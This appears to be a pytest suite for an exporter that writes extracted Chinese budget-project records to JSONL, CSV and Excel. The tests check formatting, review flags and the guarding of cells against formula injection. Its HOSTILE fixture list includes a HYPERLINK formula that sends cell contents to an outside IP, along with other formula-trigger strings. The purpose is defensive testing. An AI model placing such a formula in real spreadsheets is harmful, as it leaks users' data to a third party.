from __future__ import annotations

import csv
import hashlib
import json
import os
import subprocess
import sys
import textwrap
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet

from extractor.errors import OutputError, UsageError
from extractor.export import export, sheets, xlsx
from extractor.export.cells import MAX_CELL, fitted, guarded, printable
from extractor.export.labels import labels
from extractor.export.paths import field_name, value_at
from extractor.schemas.project import Amounts, FundingLine, Indicator
from extractor.schemas.record import (
    Counts,
    Division,
    DocumentLine,
    FlagCode,
    Normalized,
    NormalizedFunding,
    NormalizedIndicator,
    Record,
)
from extractor.schemas.target import Target
from extractor.store import RunStore
from extractor.store.folder import FORMATS
from tests import peak_memory
from tests.published import AT_LEAST, DUE, PER_DAY, SEVERAL
from tests.run_samples import Run, document, fill, flag, reading, record

ROOT = Path(__file__).parent.parent
HOSTILE = (
    '=HYPERLINK("http://198.51.100.7/?q="&A1,"点击")',
    "=1+1",
    "+86 20 0000 0000",
    "-5%",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "{=1+1}",
    "http://198.51.100.7/a",
    "mailto:a@b.example",
    "<r><t>粗体</t></r>",
    "</is></c></row>",
    "_x0041_",
    "#REF!",
    "2026-01-01",
    "0012",
)


def sheets_of(directory: Path) -> dict[str, Worksheet]:
    book = openpyxl.load_workbook(directory / "projects.xlsx")
    return {sheet.title: sheet for sheet in book.worksheets}


def table(sheet: Worksheet) -> list[dict[str, Any]]:
    """Rows by heading."""
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(map(str, rows[0]), row, strict=True)) for row in rows[1:]]


def cell(sheet: Worksheet, heading: str, row: int = 2) -> Any:
    index = [head.value for head in sheet[1]].index(heading)
    return sheet.cell(row, index + 1)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


# JSON lines


def test_json_lines_hold_everything_in_declared_order(tmp_path: Path) -> None:
    with RunStore(tmp_path / "run.sqlite") as store:
        fill(store, 25, per_document=10)
        paths = export(store, tmp_path / "out", formats=("jsonl",))
        assert paths == [tmp_path / "out" / "projects.jsonl", tmp_path / "out" / "documents.jsonl"]
        raw = paths[0].read_bytes()
        assert raw.endswith(b"}\n")
        assert b"\r" not in raw
        lines = raw.decode("utf-8").splitlines()
        assert [Record.model_validate_json(line) for line in lines] == list(store.records())
        assert list(json.loads(lines[0])) == list(Record.model_fields)
        assert list(json.loads(lines[0])["project"]) == list(reading().model_dump())
        documents = paths[1].read_text("utf-8").splitlines()
        assert [DocumentLine.model_validate_json(line) for line in documents] == list(store.documents())


TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)


@pytest.mark.large
@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture]
)
@given(
    name=TEXT,
    goal=TEXT | st.just("\u2028\u2029\x85\x1c"),
    value=TEXT,
    label=TEXT,
    amount=st.decimals(-(10**12), 10**12, places=2),
)
def test_any_text_comes_back(tmp_path: Path, name: str, goal: str, value: str, label: str, amount: object) -> None:
    item = record(
        project=reading(
            name=name,
            goal=goal,
            amounts=Amounts(total=str(amount), breakdown=(FundingLine(label=label, amount="1.00"),)),
            indicators=(Indicator(name=value, annual_value=goal),),
            attributes={label: value},
        ),
        normalized=record().normalized,
    )
    with RunStore(tmp_path / "run.sqlite") as store:
        store.save(document(), [item], [goal], "f")
        export(store, tmp_path)
        assert store.record(item.id) == (item, goal)
    lines = (tmp_path / "projects.jsonl").read_bytes().split(b"\n")
    assert lines[1:] == [b""]
    assert Record.model_validate_json(lines[0]) == item
    (row,) = read_csv(tmp_path / "projects.csv")
    assert row["项目名称"] == guarded(printable(name))
    assert row["总计"] == str(amount)
    (cells,) = table(sheets_of(tmp_path)["项目"])
    assert cells["总计"] == pytest.approx(float(str(amount)), rel=1e-15)
    expected = printable(name).replace("\r\n", "\n").replace("\r", "\n")
    assert (cells["项目名称"] or "") == expected.replace("_x", "_x005F_x") or (cells["项目名称"] or "") == expected


# CSV


def test_csv_is_for_excel_and_for_scripts(tmp_path: Path) -> None:
    items = [record(0), record(1, flags=(flag(),))]
    export(Run(items), tmp_path, formats=("csv",))
    for name in ("projects.csv", "indicators.csv"):
        assert (tmp_path / name).read_bytes().startswith("\ufeff项目序号,".encode())
    rows = read_csv(tmp_path / "projects.csv")
    assert [row["记录编号"] for row in rows] == [item.id for item in items]
    assert [row["状态"] for row in rows] == ["一致", "待核对"]
    assert [row["总计"] for row in rows] == ["120.00", "121.01"]
    assert rows[0]["其他内容"] == "项目编码：QH2026-000000\n项目类别：经常性项目"
    indicators = read_csv(tmp_path / "indicators.csv")
    assert len(indicators) == 14
    assert indicators[9]["年度指标值"] == "2026年4月30日前"
    assert {row["记录编号"] for row in indicators} == {item.id for item in items}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-5%", "'-5%"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("\x00=1+1", "'=1+1"),
        ("＝1+1", "'＝1+1"),
        ("5-3=2", "5-3=2"),
        ("≥95%", "≥95%"),
        ("'=1", "'=1"),
        ("", ""),
    ],
)
def test_csv_guards_text_that_would_run(tmp_path: Path, text: str, expected: str) -> None:
    item = record(project=reading(name=text, amounts=Amounts(total="-80.00", fiscal="-0.5", unplaced=("-1.00",))))
    export(Run([item]), tmp_path, formats=("csv",))
    (row,) = read_csv(tmp_path / "projects.csv")
    assert row["项目名称"] == expected
    assert (row["总计"], row["财政拨款"]) == ("-80.00", "-0.5"), "negative amounts stay numbers"
    assert row["未能定栏的金额"] == "'-1.00"
    assert read_csv(tmp_path / "indicators.csv")[0]["项目名称"] == expected


# The workbook


def test_three_sheets_with_headings_filters_and_frozen_rows(tmp_path: Path) -> None:
    with RunStore(tmp_path / "run.sqlite") as store:
        fill(store, 30, per_document=10)
        export(store, tmp_path, formats=("xlsx",))
    found = sheets_of(tmp_path)
    assert list(found) == ["项目", "指标", "待核对"]
    words = labels("zh")
    for sheet, columns in zip(found.values(), (words.project, words.indicator, words.review), strict=True):
        assert [head.value for head in sheet[1]] == [column.heading for column in columns]
        assert sheet.freeze_panes is not None
        assert sheet.freeze_panes.endswith("2")
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
    assert found["项目"].freeze_panes == "E2"
    assert [found[name].max_row - 1 for name in found] == [30, 210, 6]
    ids = {row["记录编号"] for row in table(found["项目"])}
    assert ids == {row["记录编号"] for row in table(found["指标"])}
    assert ids >= {row["记录编号"] for row in table(found["待核对"])}


def test_amounts_are_numbers(tmp_path: Path) -> None:
    amounts = Amounts(total="1141.20", fiscal="-80.5", special_account="0.00", other="0.12345678")
    export(Run([record(project=reading(amounts=amounts))]), tmp_path, formats=("xlsx",))
    sheet = sheets_of(tmp_path)["项目"]
    values = [cell(sheet, heading) for heading in ("总计", "财政拨款", "财政专户拨款", "其他资金")]
    assert [item.value for item in values] == [1141.2, -80.5, 0, 0.12345678]
    assert {item.data_type for item in values} == {"n"}
    assert {item.number_format for item in values} == {"#,##0.00######"}
    assert cell(sheet, "年度").value == 2026


def test_nothing_is_a_formula_or_a_link(tmp_path: Path) -> None:
    items = [
        record(
            index,
            project=reading(
                index,
                name=text,
                goal=text,
                unit=text,
                attributes={text: text},
                indicators=(Indicator(level1=text, name=text, annual_value=text, weight=text),),
            ),
            flags=(flag(path="goal", message=text, rules=text, model=text),),
        )
        for index, text in enumerate(HOSTILE)
    ]
    lines = [document("a.txt", len(items), flags=(flag(FlagCode.SUM_MISMATCH, "totals[0]", message=HOSTILE[0]),))]
    export(Run(items, lines), tmp_path, formats=("xlsx",))
    found = sheets_of(tmp_path)
    for sheet in found.values():
        assert {item.data_type for row in sheet.iter_rows() for item in row} <= {"s", "n", "inlineStr"}
        assert not [item for row in sheet.iter_rows() for item in row if item.hyperlink]
    with zipfile.ZipFile(tmp_path / "projects.xlsx") as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/sheet"):
                text = package.read(name).decode()
                assert "<f>" not in text
                assert "<hyperlink" not in text
                assert "<b>" not in text
    values = [row["三级指标"] for row in table(found["指标"])]
    expected = [text.replace("\r", "\n").replace("_x0041_", "_x005F_x0041_") for text in HOSTILE]
    assert [str(value).rstrip(" ") for value in values] == expected


def with_targets() -> Record:
    normalized = Normalized(
        division=Division(
            code="440106",
            name="天河区",
            province="广东省",
            city="广州市",
            county="天河区",
            printed="天河",
            evidence="unit",
        ),
        funding=(
            NormalizedFunding(label="其中：省级", source="fiscal", level="省", basis="spent", yuan="32500"),
            NormalizedFunding(label="不明"),
        ),
        indicators=(
            NormalizedIndicator(annual=AT_LEAST, cycle=PER_DAY, named=DUE),
            NormalizedIndicator(annual=SEVERAL),
            NormalizedIndicator(
                annual=Target(kind="number", low=Decimal("12345678901234567.5"), high=Decimal("0.026"))
            ),
            NormalizedIndicator(annual=Target(kind="range", low=Decimal(-3), high=Decimal(10) ** 400, unit="=1+1")),
        ),
    )
    indicators = tuple(Indicator(number=number, name="抽查") for number in (1, 10**20, 10**400, None))
    return record(project=reading(indicators=indicators), normalized=normalized)


def test_targets_are_columns_to_sort_and_filter_by(tmp_path: Path) -> None:
    export(Run([with_targets()]), tmp_path, formats=("xlsx", "csv"))
    found = sheets_of(tmp_path)
    (project,) = table(found["项目"])
    assert (project["区划代码"], project["行政区划"]) == ("440106", "天河区")
    assert project["资金来源"] == "其中：省级（财政拨款、省、已支出）：32500 元\n不明"
    first, second, third, fourth = table(found["指标"])
    shown = {key.removeprefix("年度值·"): value for key, value in first.items() if key.startswith("年度值·") and value}
    assert shown == {"种类": "数值", "比较": "≥", "下限": 95, "单位": "%"}
    shown = {key.removeprefix("周期值·"): value for key, value in first.items() if key.startswith("周期值·") and value}
    assert shown == {
        "种类": "数值",
        "比较": "≤",
        "上限": 550,
        "单位": "元",
        "对象": "人",
        "每期": "天",
        "均值": "是",
    }
    assert first["名称所含要求"] == "≤2026-06"
    assert (second["年度值·种类"], second["年度值·各项"], second["年度值·下限"]) == (
        "多项",
        "≥95%；有所提升；≤2026-06",
        None,
    )
    assert (third["年度值·下限"], third["年度值·上限"]) == ("12345678901234567.5", 0.026), (
        "what Excel cannot hold is text"
    )
    assert (fourth["年度值·下限"], fourth["年度值·上限"], fourth["年度值·单位"]) == (-3, "1" + "0" * 400, "=1+1")
    assert [row["印刷编号"] for row in table(found["指标"])] == [1, 10**20, "1" + "0" * 400, None]
    assert cell(found["指标"], "年度值·下限").number_format == "General"
    notes = [(row["类别"], row["字段"]) for row in table(found["待核对"])]
    assert notes == [("导出说明", "印刷编号"), ("导出说明", "年度值·下限"), ("导出说明", "年度值·上限")]

    rows = read_csv(tmp_path / "indicators.csv")
    assert [row["年度值·下限"] for row in rows] == ["95", "", "12345678901234567.5", "-3"]
    assert (rows[3]["年度值·单位"], rows[1]["年度值·各项"]) == ("'=1+1", "≥95%；有所提升；≤2026-06")
    assert read_csv(tmp_path / "projects.csv")[0]["区划代码"] == "440106"


def test_flagged_cells_are_coloured_and_say_why(tmp_path: Path) -> None:
    flags = (
        flag(path="amounts.fiscal", message="两次读取不一致。", rules="101.01", model="101.10"),
        flag(FlagCode.UNGROUNDED, "indicators[2].annual_value", message="原文中找不到。"),
        flag(FlagCode.MISSING_NUMBER, "indicators", message="缺第 4 项。"),
        flag(FlagCode.UNCLAIMED_TEXT, "", message="有文字未归入任何字段。"),
        flag(FlagCode.ONLY_MODEL, "indicators[3]", message="仅模型读出。"),
        flag(FlagCode.ONLY_RULES, "indicators[99].name", message="没有这一项。"),
        flag(FlagCode.CYCLE_ANNUAL_DIFFER, "indicators[0].cycle_value", message="两值不同。"),
        flag(FlagCode.DISAGREEMENT, "attributes.负责人", message="负责人不一致。"),
        flag(FlagCode.DISAGREEMENT, "something.new", message="新的检查。"),
    )
    export(Run([record(0, flags=flags), record(1)]), tmp_path, formats=("xlsx",))
    found = sheets_of(tmp_path)
    projects, indicators = found["项目"], found["指标"]
    fiscal = cell(projects, "财政拨款")
    assert fiscal.value == 100.0
    assert fiscal.fill.start_color.rgb == "FFFFD966"
    assert fiscal.comment.text == "〔需核对〕财政拨款\n两次读取不一致。\n规则：101.01\n模型：101.10"
    assert "缺第 4 项" in cell(projects, "指标数").comment.text
    assert "没有这一项" in cell(projects, "指标数").comment.text
    assert "负责人不一致" in cell(projects, "其他内容").comment.text
    status = cell(projects, "状态")
    assert status.value == "待核对"
    assert "有文字未归入任何字段" in status.comment.text
    assert "新的检查" in status.comment.text
    assert "原文中找不到" in cell(indicators, "年度指标值", 4).comment.text
    assert "仅模型读出" in cell(indicators, "三级指标", 5).comment.text
    information = cell(indicators, "实施周期指标值", 2)
    assert information.comment.text.startswith("〔提示〕第 1 项指标·实施周期指标值")
    assert information.fill.start_color.rgb == "FFDDEBF7"
    commented = [item.coordinate for row in projects.iter_rows() for item in row if item.comment]
    assert len(commented) == 4
    assert cell(projects, "状态", 3).value == "一致"
    assert cell(projects, "待核对数").value == 8


def test_review_sheet_has_a_row_for_each_flag_and_information_last(tmp_path: Path) -> None:
    first = record(
        0, "a.txt", flags=(flag(FlagCode.WITHHELD, "goal"), flag(spans=((5, 9), (20, 22)), rules="120", model="12"))
    )
    second = record(1, "b.txt", flags=(flag(FlagCode.UNGROUNDED, "indicators[0].name"),))
    lines = [
        document("a.txt", 1, flags=(flag(FlagCode.SUM_MISMATCH, "totals[0].amounts.fiscal", spans=((1, 4),)),)),
        document("a1.txt", 0, status="failed", reason="文件已加密。"),
        document("b.txt", 1),
        document("c.txt", 0),
    ]
    export(Run([first, second], lines), tmp_path, formats=("xlsx",))
    rows = table(sheets_of(tmp_path)["待核对"])
    assert [(row["类别"], row["文件"], row["字段"], row["检查代码"]) for row in rows] == [
        ("需核对", "a.txt", "第 1 个合计行·财政拨款", "sum_mismatch"),
        ("需核对", "a.txt", "总计", "disagreement"),
        ("读取失败", "a1.txt", None, None),
        ("需核对", "b.txt", "第 1 项指标·三级指标", "ungrounded"),
        ("提示", "a.txt", "绩效目标", "withheld"),
        ("无项目", "c.txt", None, None),
    ]
    assert rows[1]["原文位置"] == "第 1 页，字符 5–9, 20–22"
    assert (rows[1]["现采用值"], rows[1]["规则读出的值"], rows[1]["模型读出的值"]) == ("120.00", "120", "12")
    assert rows[0]["原文位置"] == "字符 1–4"
    assert rows[3]["原文位置"] == "第 1 页，字符 1100–1120", "where the flag names no place, the record does"
    assert "文件已加密" in rows[2]["问题说明"]
    assert (rows[3]["项目序号"], rows[3]["记录编号"], rows[3]["项目名称"]) == (2, second.id, second.project.name)


def test_three_readings_and_what_was_read_once(tmp_path: Path) -> None:
    disputed = flag(path="goal", rules="甲", model="甲", builtin="乙", suggestion="甲")
    lines = [
        document("a.txt", 1),
        document("b.txt", 2, counts=Counts(blocks=2, records=2, no_second_reading=1)),
    ]
    export(Run([record(0, flags=(disputed,))], lines), tmp_path, formats=("xlsx",), language="en")
    found = sheets_of(tmp_path)
    first, second = table(found["To check"])
    assert (first["Value read by the built-in reader"], first["Suggested value"]) == ("乙", "甲")
    assert (second["Kind"], second["File"]) == ("information", "b.txt")
    assert "No second reading of 1 of its 2 projects" in second["What was found"]
    (comment,) = [cell.comment.text for row in found["Projects"] for cell in row if cell.comment]
    assert "built-in reader: 乙" in comment
    assert "suggestion: 甲" in comment


def test_text_that_a_cell_cannot_hold(tmp_path: Path) -> None:
    long = "目标" * 20_000
    item = record(
        project=reading(
            name="合\x00计\x0b\ufffe",
            attributes={"说明": long, "另": "𠀀" * 20_000},
            amounts=Amounts(total="123456789012345678.25", fiscal="123456789012.25"),
        ),
        normalized=record().normalized,
    )
    export(Run([item]), tmp_path, formats=("xlsx",))
    found = sheets_of(tmp_path)
    (row,) = table(found["项目"])
    assert row["项目名称"] == "合计"
    assert len(row["其他内容"].encode("utf-16-le")) // 2 <= MAX_CELL
    assert row["其他内容"].endswith("全文见 projects.jsonl〕")
    assert row["总计"] == "123456789012345678.25", "digits that a number of Excel cannot hold stay text"
    assert row["财政拨款"] == 123456789012.25
    notes = table(found["待核对"])
    assert [(note["类别"], note["字段"], note["记录编号"]) for note in notes] == [
        ("导出说明", "总计", item.id),
        ("导出说明", "其他内容", item.id),
    ]


@pytest.mark.parametrize("text", ["短", "字" * MAX_CELL, "字" * (MAX_CELL + 1), "𠀀" * MAX_CELL, "a" + "𠀀" * MAX_CELL])
def test_fitted(text: str) -> None:
    cut = fitted(text, "…〔截断〕")
    assert len(cut.encode("utf-16-le")) // 2 <= MAX_CELL
    assert cut == text or (cut.endswith("…〔截断〕") and text.startswith(cut.removesuffix("…〔截断〕")))


def test_rows_beyond_the_limit_go_on_in_a_second_sheet(tmp_path: Path) -> None:
    source = Run([record(n, flags=(flag(),)) for n in range(5)])
    xlsx.write(tmp_path / "projects.xlsx", source.documents(), source.records(), labels(), max_rows=11)
    found = sheets_of(tmp_path)
    assert list(found) == ["项目", "指标", "待核对", "指标(2)", "指标(3)", "指标(4)"]
    parts = [found[name] for name in ("指标", "指标(2)", "指标(3)", "指标(4)")]
    assert [part.max_row for part in parts] == [11, 11, 11, 6]
    assert all(part["A1"].value == "项目序号" and part.auto_filter.ref for part in parts)
    assert [row["项目序号"] for part in parts for row in table(part)] == [n for n in range(1, 6) for _ in range(7)]


def test_comments_have_a_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "MAX_COMMENTS", 3)
    export(Run([record(n, flags=(flag(message="长" * 5_000),)) for n in range(5)]), tmp_path, formats=("xlsx",))
    found = sheets_of(tmp_path)
    marked = [cell(found["项目"], "总计", row) for row in range(2, 7)]
    assert [item.comment is not None for item in marked] == [True, True, True, False, False]
    assert {item.fill.start_color.rgb for item in marked} == {"FFFFD966"}
    assert "批注超过" in table(found["待核对"])[5]["问题说明"]


def test_empty_run(tmp_path: Path) -> None:
    export(Run([]), tmp_path)
    assert [sheet.max_row for sheet in sheets_of(tmp_path).values()] == [1, 1, 1]
    assert (tmp_path / "projects.jsonl").read_bytes() == b""
    assert read_csv(tmp_path / "projects.csv") == []


def test_english(tmp_path: Path) -> None:
    export(Run([record(0, flags=(flag(),))]), tmp_path, language="en")
    found = sheets_of(tmp_path)
    assert list(found) == ["Projects", "Indicators", "To check"]
    assert table(found["To check"])[0]["Field"] == "Total"
    assert read_csv(tmp_path / "projects.csv")[0]["Status"] == "to check"


# Files


def digests(directory: Path) -> dict[str, str]:
    return {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in directory.iterdir() if path.is_file()}


@pytest.mark.large
def test_the_same_database_gives_the_same_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with RunStore(tmp_path / "run.sqlite") as store:
        fill(store, 40, per_document=15)
        export(store, tmp_path / "one", formats=tuple(FORMATS))
        monkeypatch.setenv("TZ", "Asia/Shanghai")
        export(store, tmp_path / "two", formats=tuple(FORMATS))
    again = """
        store = RunStore(Path(sys.argv[1]), create=False)
        export(store, Path(sys.argv[2]), formats=tuple(FORMATS))
        store.close()
    """
    run_child(again, tmp_path / "run.sqlite", tmp_path / "three")
    assert digests(tmp_path / "one") == digests(tmp_path / "two") == digests(tmp_path / "three")
    assert sorted(digests(tmp_path / "one")) == sorted(name for names in FORMATS.values() for name in names)


def test_files_are_replaced_only_when_all_are_complete(tmp_path: Path) -> None:
    export(Run([record(0)]), tmp_path)
    before = digests(tmp_path)

    class Broken(Run):
        def records(self, language: str | None = None) -> Iterator[Record]:
            yield record(1)
            raise OSError(28, "No space left on device")

    with pytest.raises(OutputError, match="No space left"):
        export(Broken([record(1)]), tmp_path)
    assert digests(tmp_path) == before
    assert not [path for path in tmp_path.iterdir() if path.is_dir()]


def test_modes_follow_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o027)
    try:
        paths = export(Run([record(0)]), tmp_path)
    finally:
        os.umask(old)
    assert {path.stat().st_mode & 0o777 for path in paths} == {0o640}


def test_what_a_killed_export_left_is_cleared_away(tmp_path: Path) -> None:
    for name in (".export-old", ".export-new"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "projects.csv").write_text("x")
    os.utime(tmp_path / ".export-old", (0, 0))
    export(Run([record(0)]), tmp_path, formats=("csv",))
    assert [path.name for path in tmp_path.iterdir() if path.is_dir()] == [".export-new"]


def test_targets_that_cannot_be_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "file").write_text("x")
    with pytest.raises(OutputError, match="cannot be written"):
        export(Run([]), tmp_path / "file")
    target = tmp_path / "projects.csv"
    target.mkdir()
    with pytest.raises(OutputError, match="in the way"):
        export(Run([]), tmp_path)
    target.rmdir()
    target.write_text("mine")
    target.chmod(0o444)
    with pytest.raises(OutputError, match="read-only"):
        export(Run([]), tmp_path)
    target.chmod(0o644)

    def refuse(self: Path, target: Path) -> Path:
        raise PermissionError(13, "The process cannot access the file because it is being used by another process")

    monkeypatch.setattr(Path, "replace", refuse)
    with pytest.raises(OutputError, match=r"projects\.jsonl.*close it"):
        export(Run([]), tmp_path)
    assert target.read_text() == "mine"


@pytest.mark.parametrize("wrong", [{"formats": ("jsonl", "pdf")}, {"language": "fr"}])
def test_unknown_options(tmp_path: Path, wrong: dict[str, Any]) -> None:
    with pytest.raises(UsageError, match=r"pdf|fr"):
        export(Run([]), tmp_path, **wrong)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("", "整个项目"),
        ("name", "项目名称"),
        ("amounts", "金额"),
        ("amounts.unplaced[0]", "未能定栏的金额·1"),
        ("amounts.breakdown[1].amount", "其他资金栏·2·金额"),
        ("attributes.项目编码", "其他内容·项目编码"),
        ("indicators", "绩效指标"),
        ("indicators[0]", "第 1 项指标"),
        ("indicators[11].level2_code", "第 12 项指标·二级代码"),
        ("totals[1].amounts.total", "第 2 个合计行·总计"),
        ("fiscal_year", "年度"),
        ("unheard.of", "unheard.of"),
    ],
)
def test_field_names(path: str, expected: str) -> None:
    assert field_name(path, labels("zh")) == expected


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("amounts.total", "120.00"),
        ("amounts.breakdown[0].amount", "3.25"),
        ("amounts.breakdown[7].amount", None),
        ("indicators[1].name", "工程验收合格率"),
        ("indicators[1].number", "2"),
        ("indicators[1]", None),
        ("attributes.项目类别", "经常性项目"),
        ("withheld", None),
        ("nowhere.at.all", None),
        ("", None),
    ],
)
def test_published_values(path: str, expected: str | None) -> None:
    assert value_at(reading(), path) == expected


# Memory


def run_child(code: str, *arguments: Path) -> str:
    start = f"""
        import runpy, sys
        from pathlib import Path
        from extractor.export import FORMATS, export
        from extractor.store import RunStore
        from tests.peak_memory import peak
        globals().update(runpy.run_path({str(Path(__file__).with_name("run_samples.py"))!r}))
    """
    return subprocess.run(
        [sys.executable, "-c", textwrap.dedent(start) + textwrap.dedent(code), *map(str, arguments)],
        cwd=ROOT,
        env=os.environ | {"PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        check=True,
    ).stdout


@pytest.mark.memory
@pytest.mark.skipif(not peak_memory.STATUS.exists(), reason="peak memory is read from /proc")
def test_memory_stays_flat(tmp_path: Path) -> None:
    """20,000 records may take little more than 2,000: nothing is collected but comments, up to their limit."""
    peaks = {}
    for number in (2_000, 20_000):
        path = tmp_path / f"{number}.sqlite"
        with RunStore(path) as store:
            fill(store, number, per_document=1_000, indicators=1)
        code = """
            with RunStore(Path(sys.argv[1]), create=False) as store:
                export(store, Path(sys.argv[2]))
            print(peak() // 1024)
        """
        peaks[number] = int(run_child(code, path, tmp_path / f"out{number}"))
    assert peaks[20_000] < peaks[2_000] + 60, f"MiB at the peak: {peaks}"
